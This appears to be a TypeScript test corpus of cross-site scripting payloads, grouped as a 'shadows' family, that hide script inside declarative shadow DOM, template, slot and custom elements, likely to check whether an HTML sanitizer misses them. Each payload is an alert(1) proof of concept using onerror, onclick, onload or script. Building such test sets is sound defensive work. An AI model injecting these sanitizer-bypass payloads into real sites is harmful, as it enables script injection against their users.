import { crossed, family } from "./payload.ts";

const MODES = [
  'shadowrootmode="open"',
  'shadowrootmode="closed"',
  'shadowroot="open"',
  'shadowrootmode="open" shadowrootclonable shadowrootserializable',
];
const HOSTS = ["div", "p", "article", "section", "span"];

/** Trees that a search through the document does not come by. */
export const shadows = family("shadows", {
  fires: [
    '<div onclick="alert(1)"><template shadowrootmode="open"><slot></slot></template>Words</div>',
    '<slot onslotchange="alert(1)">Words</slot>',
    "<template></template><img src=x: onerror=alert(1)>",
    '<script>customElements.define("x-a", class extends HTMLElement { connectedCallback() { alert(1) } })</script><x-a></x-a>',
    '<script>document.body.attachShadow({ mode: "open" }).innerHTML = "<img src=x: onerror=alert(1)>"</script>',
    '<script>document.body.append(Object.assign(document.createElement("i"), { onclick: alert })); document.querySelector("i").click()</script>',
  ],
  tries: [
    ...crossed(
      MODES,
      HOSTS,
      (mode, host) => `<${host}><template ${mode}><img src=x: onerror=alert(1)></template></${host}>`,
    ),
    ...MODES.map((mode) => `<div><template ${mode}><script>alert(1)</script></template></div>`),
    ...MODES.map(
      (mode) => `<div><template ${mode}><style>@import '%URL%'; :host{position:fixed;inset:0}</style></template></div>`,
    ),
    "<template><script>alert(1)</script></template>",
    "<template><svg onload=alert(1)></template>",
    '<p is="x-news" onclick="x">Built in</p><x-news part="a" exportparts="b" slot="c">Own</x-news>',
    '<template for="x"><img src=x: onerror=alert(1)></template><div marker="x"></div>',
  ],
});
